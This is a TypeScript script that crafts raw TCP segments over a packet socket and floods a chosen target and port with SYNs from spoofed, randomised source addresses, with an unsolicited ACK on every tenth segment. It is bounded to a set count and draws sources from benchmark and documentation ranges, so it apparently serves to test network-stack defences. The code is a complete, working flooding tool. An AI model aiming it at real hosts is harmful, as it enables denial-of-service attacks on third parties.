/**
 * Sends TCP segments from random addresses through a packet socket, as an attacker would: `syn-flood.ts INDEX HARDWARE
 * TARGET PORT COUNT`, the interface's index, the hardware address next to it, and whom it is meant for. Every tenth
 * segment is an ACK that nobody asked for, the others are SYNs. Bounded: COUNT segments in bursts, then it ends.
 */
import { setTimeout as sleep } from "node:timers/promises";
import { parseIp } from "#core/address.ts";
import { addressOf } from "#sys/memory.ts";
import { bind, send, socket } from "#sys/socket.ts";

const AF_PACKET = 17;
const SOCK_RAW = 3;
const ETH_P_IP = 0x0800;
const ETH_P_IPV6 = 0x86dd;
const SYN = 0x02;
const ACK = 0x10;
const BURST = 25;

const [index = "0", hardware = "", target = "", port = "0", count = "0"] = process.argv.slice(2);
const v6 = target.includes(":");
const fd = socket(AF_PACKET, SOCK_RAW);
bind(fd, linkAddress(Number(index)));
const packet = segment();
for (let i = 0; i < Number(count); i++) {
  randomise(packet, i % 10 === 9 ? ACK : SYN);
  send(fd, Number(addressOf(packet)), packet.length);
  if (i % BURST === BURST - 1) await sleep(1);
}

/** struct sockaddr_ll, linux/if_packet.h */
function linkAddress(interfaceIndex: number): Buffer {
  const address = Buffer.alloc(20);
  address.writeUInt16LE(AF_PACKET, 0);
  address.writeUInt16BE(v6 ? ETH_P_IPV6 : ETH_P_IP, 2);
  address.writeInt32LE(interfaceIndex, 4);
  return address;
}

/** Ethernet, IP, and a TCP header with an MSS option; what differs from one to the next is left open. */
function segment(): Buffer {
  const link = Buffer.alloc(14);
  link.write(hardware.replaceAll(":", ""), 0, "hex");
  link.write("020000000099", 6, "hex");
  link.writeUInt16BE(v6 ? ETH_P_IPV6 : ETH_P_IP, 12);
  const network = Buffer.alloc(v6 ? 40 : 20);
  if (v6) {
    network[0] = 0x60;
    network.writeUInt16BE(24, 4);
    network[6] = 6;
    network[7] = 64;
    network.set(parseIp(target), 24);
  } else {
    network[0] = 0x45;
    network.writeUInt16BE(44, 2);
    network[8] = 64;
    network[9] = 6;
    network.set(parseIp(target).subarray(12), 16);
  }
  const transport = Buffer.alloc(24);
  transport.writeUInt16BE(Number(port), 2);
  transport[12] = 6 << 4;
  transport.writeUInt16BE(64_240, 14);
  transport.set([2, 4, 1460 >> 8, 1460 & 255], 20);
  return Buffer.concat([link, network, transport]);
}

function randomise(frame: Buffer, flags: number): void {
  const network = frame.subarray(14, v6 ? 54 : 34);
  const transport = frame.subarray(v6 ? 54 : 34);
  const random = (bytes: Buffer): void => {
    for (let i = 0; i < bytes.length; i++) bytes[i] = Math.floor(Math.random() * 256);
  };
  if (v6) {
    // Documentation addresses, RFC 3849.
    network.set([0x20, 0x01, 0x0d, 0xb8], 8);
    random(network.subarray(12, 24));
  } else {
    // Addresses for benchmarks, RFC 2544.
    network.set([198, 18], 12);
    random(network.subarray(14, 16));
    network.writeUInt16BE(0, 10);
    network.writeUInt16BE(checksum(network), 10);
  }
  random(transport.subarray(0, 2));
  random(transport.subarray(4, 8));
  transport.writeUInt32BE(flags === ACK ? 0x1234_5678 : 0, 8);
  transport[13] = flags;
  transport.writeUInt16BE(0, 16);
  const addresses = v6 ? network.subarray(8, 40) : network.subarray(12, 20);
  transport.writeUInt16BE(
    checksum(Buffer.concat([addresses, Buffer.from([0, 6, 0, transport.length]), transport])),
    16,
  );
}

/** RFC 1071 */
function checksum(bytes: Buffer): number {
  let sum = 0;
  for (let i = 0; i < bytes.length; i += 2) sum += bytes.readUInt16BE(i);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
  return ~sum & 0xffff;
}
